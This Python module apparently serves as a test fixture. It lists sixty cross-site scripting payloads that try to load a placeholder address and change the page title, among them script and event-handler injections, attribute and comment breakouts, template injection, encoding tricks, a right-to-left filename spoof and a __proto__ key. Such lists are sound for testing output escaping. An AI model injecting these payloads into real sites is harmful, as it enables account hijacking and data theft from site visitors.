"""Sixty texts that act if a page shows them as markup. `{hit}`: the address that they try to load."""

# ruff: noqa: E501

from __future__ import annotations

_DO = "document.title='acted';fetch('{hit}')"
_URL = "javascript:" + _DO

PAYLOADS = [
    # markup that runs or loads by itself
    f"<script>{_DO}</script>", f"<SCRIPT>{_DO}</SCRIPT>", f"</script><script>{_DO}</script>", "<script src={hit}></script>",
    f"<img src=x onerror=\"{_DO}\">", "<img src={hit}>", f"<svg onload=\"{_DO}\"></svg>", f"<svg><script>{_DO}</script></svg>",
    f"<body onload=\"{_DO}\">", "<iframe src={hit}></iframe>", f"<iframe srcdoc=\"<script>{_DO}</script>\"></iframe>",
    f"<iframe src=\"{_URL}\"></iframe>", "<object data={hit}></object>", "<embed src={hit}>", "<link rel=stylesheet href={hit}>",
    "<link rel=prefetch href={hit}>", "<style>@import '{hit}';</style>", "<style>*{background:url({hit})}</style>",
    "<meta http-equiv=refresh content=\"0;url={hit}\">", "<base href={hit}>", f"<input autofocus onfocus=\"{_DO}\">",
    f"<select autofocus onfocus=\"{_DO}\"></select>", f"<details open ontoggle=\"{_DO}\">x</details>",
    f"<video><source onerror=\"{_DO}\"></video>", "<video src={hit} autoplay></video>", "<audio src={hit} autoplay></audio>",
    f"<marquee onstart=\"{_DO}\">x</marquee>", f"<form action={{hit}}><button autofocus onfocus=\"{_DO}\">x</button></form>",
    "<table background={hit}><tr><td>x</table>", f"<a href=\"{_URL}\">x</a>", f"<math><a xlink:href=\"{_URL}\">x</a></math>",
    f"<div style=\"background:url({{hit}})\" onanimationstart=\"{_DO}\">x</div>", "<picture><source srcset={hit}><img></picture>",
    # out of an attribute, a text, a comment, a style or JSON
    f"\"><script>{_DO}</script>", f"'><script>{_DO}</script>", f"\" onmouseover=\"{_DO}\" x=\"", f"' onfocus='{_DO}' autofocus='",
    f"`onload={_DO}", f"--><script>{_DO}</script><!--", f"<!--><script>{_DO}</script>-->", f"]]><script>{_DO}</script>",
    f"</style><script>{_DO}</script>", f"</title><script>{_DO}</script>", f"</textarea><script>{_DO}</script>",
    f"</noscript><script>{_DO}</script>", f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e", f"\"}}]}};{_DO};//",
    f"\\\";{_DO};//", "<!--<script>", "</script", f"\u2028{_DO}\u2029",
    # through templates, odd characters, encodings
    f"{{{{constructor.constructor(\"{_DO}\")()}}}}", f"${{{_DO}}}", f"<%= {_DO} %>", f"<scr\x00ipt>{_DO}</scr\x00ipt>",
    f"\uff1cscript\uff1e{_DO}\uff1c/script\uff1e", f"&lt;script&gt;{_DO}&lt;/script&gt;", f"+ADw-script+AD4-{_DO}+ADw-/script+AD4-",
    "\u202egnp.exe\u202c <b>bold</b>", "__proto__",
]  # fmt: skip
